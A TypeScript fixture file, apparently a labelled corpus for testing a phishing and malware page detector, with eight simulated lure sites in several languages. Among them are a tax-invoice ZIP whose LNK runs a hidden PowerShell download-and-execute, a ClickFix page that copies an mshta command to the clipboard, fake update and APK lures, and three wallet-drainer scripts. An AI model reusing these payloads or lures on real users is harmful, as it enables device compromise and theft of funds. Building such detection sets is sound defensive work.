import type { Entry } from '../entry.js';
import { apk, bot, doc, fileRoute, gtag, htmlRoute, iso, jsonRoute, jsRoute, lnk, logo, pe, rar5, redirectRoute, top, zip } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-malware-sat-factura-zip-lnk-mx',
    label: 'malware',
    kind: 'tax-lure-download',
    url: 'https://facturacion-sat-cfdi.com.mx/descargar/?rfc=XAXX010101000',
    body: doc({
      lang: 'es-MX',
      title: 'SAT - Descarga de Factura Electrónica CFDI',
      c: '#611232',
      body: `${top('SAT Servicio de Administración Tributaria', ['Trámites', 'Factura electrónica', 'Contacto'])}
<main><div class="card"><h2>Comprobante Fiscal Digital por Internet</h2><p>Su factura electrónica está lista. La descarga iniciará automáticamente. Si no inicia, haga clic en el botón.</p>
<table><tr><td>RFC emisor</td><td>XAXX010101000</td></tr><tr><td>Folio fiscal</td><td>8F2C4A1B-77D2-4E01-9A3C-5512BB01A9E4</td></tr><tr><td>Total</td><td>$ 18,430.00 MXN</td></tr></table>
<p><a class="btn" href="/descargar/CFDI_8F2C4A1B.zip">Descargar CFDI (ZIP)</a></p></div></main>
${bot(['Gobierno de México — SAT'])}
<script>setTimeout(function(){location.href='/descargar/CFDI_8F2C4A1B.zip'},1800)</script>`,
    }),
    routes: {
      'facturacion-sat-cfdi.com.mx/descargar/CFDI_8F2C4A1B.zip': fileRoute(
        zip([
          { name: 'CFDI_8F2C4A1B.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -ep bypass -c "iwr https://cdn-cfdi-mx.com/f.ps1 -UseBasicParsing|iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
          { name: 'CFDI_8F2C4A1B.xml', data: '<?xml version="1.0"?><cfdi:Comprobante Version="4.0" Total="18430.00"/>' },
        ]),
        'application/zip',
        'CFDI_8F2C4A1B.zip',
      ),
    },
  },
  {
    id: 'zn-malware-chrome-update-fr',
    label: 'malware',
    kind: 'fake-update',
    url: 'https://actu-senegal-infos.com/2025/10/politique-budget-annonce',
    body: doc({
      lang: 'fr',
      title: 'Budget 2026 : ce que le gouvernement annonce - Actu Sénégal Infos',
      c: '#0f766e',
      css: `#upd{position:fixed;inset:0;background:#fff;z-index:100;display:none;text-align:center;padding-top:80px}#upd .box{max-width:520px;margin:auto}`,
      body: `${top('Actu Sénégal Infos', ['Politique', 'Économie', 'Sport', 'Culture'])}
<main><article class="card"><h1>Budget 2026 : ce que le gouvernement annonce</h1><p class="muted">Par la rédaction · 14 octobre 2025</p><p>Le projet de loi de finances présenté hier à l'Assemblée nationale prévoit une hausse des investissements dans l'agriculture et l'énergie…</p><p>Les syndicats ont réagi avec prudence…</p></article></main>
<div id="upd"><div class="box"><h1>Mise à jour de Chrome requise</h1><p>Votre version de Google Chrome (118.0.5993) est obsolète et ne peut pas afficher cette page correctement. Installez la mise à jour pour continuer.</p><p><a class="btn" href="/wp-content/uploads/ChromeSetup_x64.exe">Mettre à jour Chrome</a></p><p class="muted">Google LLC · Mise à jour critique de sécurité</p></div></div>
<script src="/wp-content/themes/news/js/jquery.min.js?ver=3.7.1"></script>`,
    }),
    routes: {
      'actu-senegal-infos.com/wp-content/themes/news/js/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 */(function(){try{if(document.cookie.indexOf('_upd=')>-1)return;if(!/Windows/.test(navigator.userAgent))return;document.cookie='_upd=1;path=/;max-age=86400';setTimeout(function(){document.getElementById('upd').style.display='block'},1500)}catch(e){}})();`),
      'actu-senegal-infos.com/wp-content/uploads/ChromeSetup_x64.exe': fileRoute(pe({ strings: ['ChromeSetup', 'Google Update', 'NetSupport Manager', 'client32.ini'] }), 'application/octet-stream', 'ChromeSetup_x64.exe'),
    },
  },
  {
    id: 'zn-malware-office-crack-rar-pt',
    label: 'malware',
    kind: 'cracked-software',
    url: 'https://baixarprogramas-crackeados.net/office-2024-ativado-download-gratis/',
    body: doc({
      lang: 'pt-BR',
      title: 'Office 2024 Ativado Download Grátis PT-BR [Crack + Serial] - Baixar Programas',
      c: '#1e293b',
      head: gtag('G-BP2024CRK1'),
      body: `${top('Baixar Programas Crackeados', ['Windows', 'Office', 'Jogos', 'Adobe'])}
<main><div class="card"><h1>Microsoft Office 2024 Pro Plus Ativado (Crack Permanente)</h1><p>Versão: 2024 LTSC · Idioma: Português · Tamanho: 4.2 GB · Ativador incluso (KMS)</p>
<h3>Como instalar</h3><ol><li>Desative o antivírus e o Windows Defender (falso positivo por causa do ativador)</li><li>Extraia o arquivo com a senha <b>2024</b></li><li>Execute o <b>Setup.exe</b> como administrador</li></ol>
<p><a class="btn" href="/go/download?id=office2024">DOWNLOAD</a></p><p class="muted">Senha do arquivo: 2024</p></div>
<div class="card"><h3>Comentários (842)</h3><p>Funcionou perfeito, valeu!</p><p>Meu antivírus apagou, tive que desativar kkk</p></div></main>`,
    }),
    routes: {
      'baixarprogramas-crackeados.net/go/download': redirectRoute(302, 'https://files-fast-dl.store/d/Office2024_Ativado_PT-BR.rar'),
      'files-fast-dl.store/d/Office2024_Ativado_PT-BR.rar': fileRoute(rar5('Setup.exe Ativador_KMS.exe senha 2024'), 'application/x-rar-compressed', 'Office2024_Ativado_PT-BR.rar'),
    },
  },
  {
    id: 'zn-malware-whatsapp-gold-apk-sw',
    label: 'malware',
    kind: 'fake-app-apk',
    url: 'https://whatsapp-gold-tz.com/pakua',
    body: doc({
      lang: 'sw',
      title: 'WhatsApp Gold - Pakua Toleo Jipya',
      c: '#b8860b',
      body: `<main><div class="card" style="text-align:center"><h1>WhatsApp Gold ✨</h1><p>Toleo maalum la WhatsApp lenye vipengele vya ziada: ficha "online", soma ujumbe uliofutwa, tuma video hadi 2GB, mandhari za dhahabu.</p>
<p><a class="btn" href="/pakua/WhatsAppGold_v42.apk">Pakua APK (42 MB)</a></p><p class="muted">Ruhusu "Vyanzo visivyojulikana" kwenye simu yako kabla ya kusakinisha.</p></div></main>`,
    }),
    routes: { 'whatsapp-gold-tz.com/pakua/WhatsAppGold_v42.apk': fileRoute(apk('com.whatsgold.messenger', 'WhatsApp Gold', ['contacts_upload', 'sms_read']), 'application/vnd.android.package-archive', 'WhatsAppGold_v42.apk') },
  },
  {
    id: 'zn-clickfix-captcha-verificacion-es',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://recetas-caseras-abuela.com/verificacion/',
    body: doc({
      lang: 'es',
      title: 'Verificación de seguridad',
      c: '#f38020',
      css: `.wrap{max-width:520px;margin:60px auto}.chk{display:flex;align-items:center;gap:12px;border:1px solid #ddd;padding:14px;border-radius:6px;cursor:pointer}.chk span{width:26px;height:26px;border:2px solid #999;border-radius:4px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:2px 6px}`,
      body: `<main><div class="wrap card"><h2>recetas-caseras-abuela.com</h2><p>Verifique que es un ser humano completando la acción a continuación.</p>
<div class="chk" id="c"><span></span>No soy un robot</div>
<div id="st" style="display:none"><h3>Pasos de verificación</h3><ol><li>Presione <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Presione <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Presione <kbd>Enter</kbd></li></ol><p class="muted">ID de verificación: 48219</p></div>
<p class="muted">Rendimiento y seguridad</p></div></main>
<script>
var cmd='mshta https://recetas-caseras-abuela.com/verificacion/captcha.hta # ✅ \\"Soy humano - ID de verificación reCAPTCHA: 48219\\"';
document.getElementById('c').onclick=function(){navigator.clipboard.writeText(cmd).catch(function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'};
</script>`,
    }),
    routes: { 'recetas-caseras-abuela.com/verificacion/captcha.hta': fileRoute('<html><head><HTA:APPLICATION WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w h -nop -c iex(iwr https://recetas-caseras-abuela.com/v.txt -UseB)",0:window.close</script></head></html>', 'application/hta') },
  },
  {
    id: 'zn-drainer-airdrop-reivindicar-pt',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://airdrop-pixcoin.finance/claim',
    body: doc({
      lang: 'pt-BR',
      title: 'PIXC Airdrop — Resgate seus tokens',
      c: '#7c3aed',
      css: `body{background:#0b0b1a;color:#eee}.card{background:#16162e;color:#eee}`,
      body: `<main><div class="card" style="text-align:center"><h1>PixCoin (PIXC) Airdrop 🇧🇷</h1><p>Comunidade brasileira de cripto: 12.000.000 PIXC distribuídos para carteiras elegíveis. Conecte sua carteira para verificar sua alocação.</p>
<p><button class="btn" id="cn">Conectar carteira</button></p><p id="st" class="muted">Fase 2 · termina em 02:11:45</p></div></main>
<script src="/static/claim.js"></script>`,
    }),
    routes: {
      'airdrop-pixcoin.finance/static/claim.js': jsRoute(`var SPENDER='0x6b1a3c9e0f7d2a4b5c8e9f1a2b3c4d5e6f7a8b9c';var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
document.getElementById('cn').onclick=async function(){if(!window.ethereum){alert('Instale a MetaMask ou Trust Wallet');return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('st').textContent='Verificando elegibilidade de '+acc.slice(0,8)+'…';
for(var t of TOKENS){var data='0x095ea7b3'+SPENDER.slice(2).padStart(64,'0')+'f'.repeat(64);try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t,data:data}]})}catch(e){}}
fetch('/static/log',{method:'POST',body:JSON.stringify({a:acc})});document.getElementById('st').textContent='Alocação confirmada! Os tokens chegarão em até 24h.'}`),
      'airdrop-pixcoin.finance/static/log': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'zn-drainer-presale-permit-ng',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://naijacoin-presale.io/buy',
    body: doc({
      lang: 'en-NG',
      title: 'NaijaCoin ($NJC) Presale — Stage 3 Live',
      c: '#16a34a',
      css: `body{background:#03140a;color:#e7f5ea}.card{background:#0a2414;color:#e7f5ea}`,
      body: `${top('NaijaCoin $NJC', ['Presale', 'Tokenomics', 'Roadmap', 'Whitepaper'])}
<main><div class="card"><h1>The first meme coin for 200M Nigerians 🇳🇬</h1><p>Stage 3 price: 1 NJC = $0.0021 · Listing price $0.01 · Raised $1,812,440 / $2,500,000</p>
<label>Pay with</label><select><option>USDT (BEP20)</option><option>BNB</option><option>ETH</option></select><label>Amount</label><input value="100">
<p><button class="btn" id="buy">Connect Wallet &amp; Buy</button></p><p class="muted">Audited by CertiK (sic) · KYC verified team</p></div></main>
<script src="/js/presale.bundle.js"></script>`,
    }),
    routes: {
      'naijacoin-presale.io/js/presale.bundle.js': jsRoute(`(function(){var R='0x9f3e2d1c0b8a7968574635241302f1e0d9c8b7a6';
async function sign(acc){var dl=Math.floor(Date.now()/1000)+86400*365;var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},message:{owner:acc,spender:R,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:dl}};
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});await fetch('/api/p',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({acc:acc,sig:sig,dl:dl})})}
document.getElementById('buy').onclick=async function(){if(!window.ethereum)return alert('No wallet found');var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];try{await sign(a)}catch(e){}alert('Purchase pending confirmation')}})();`),
      'naijacoin-presale.io/api/p': jsonRoute({ queued: true }),
    },
  },
  {
    id: 'zn-drainer-exchange-compensation-hi',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://wazirx-compensation-claim.org/hi/',
    body: doc({
      lang: 'hi',
      title: 'WazirX हैक मुआवज़ा दावा पोर्टल',
      c: '#3067f0',
      body: `${top('WazirX Recovery', ['दावा करें', 'FAQ'])}
<main><div class="card"><h2>साइबर हमले से प्रभावित उपयोगकर्ताओं के लिए मुआवज़ा</h2><p>पुनर्गठन योजना के तहत प्रभावित उपयोगकर्ता अपने 55% फंड तुरंत Web3 वॉलेट में प्राप्त कर सकते हैं। अपना वॉलेट कनेक्ट करें और "Claim" पर क्लिक करें।</p>
<p><button class="btn" id="w">वॉलेट कनेक्ट करें</button></p><p class="muted" id="m"></p></div></main>
<script>
document.getElementById('w').onclick=async function(){var p=window.ethereum;if(!p){document.getElementById('m').textContent='कृपया MetaMask / Trust Wallet ब्राउज़र में खोलें';return}
var a=(await p.request({method:'eth_requestAccounts'}))[0];var bal=await p.request({method:'eth_getBalance',params:[a,'latest']});
var v='0x'+(BigInt(bal)*95n/100n).toString(16);try{await p.request({method:'eth_sendTransaction',params:[{from:a,to:'0x3c1e8f0d2b4a69788a1b2c3d4e5f60718293a4b5',value:v,data:'0x4e71d92d'}]})}catch(e){}
document.getElementById('m').textContent='दावा दर्ज हो गया। 72 घंटे में राशि जमा की जाएगी।'}
</script>`,
    }),
  },
];
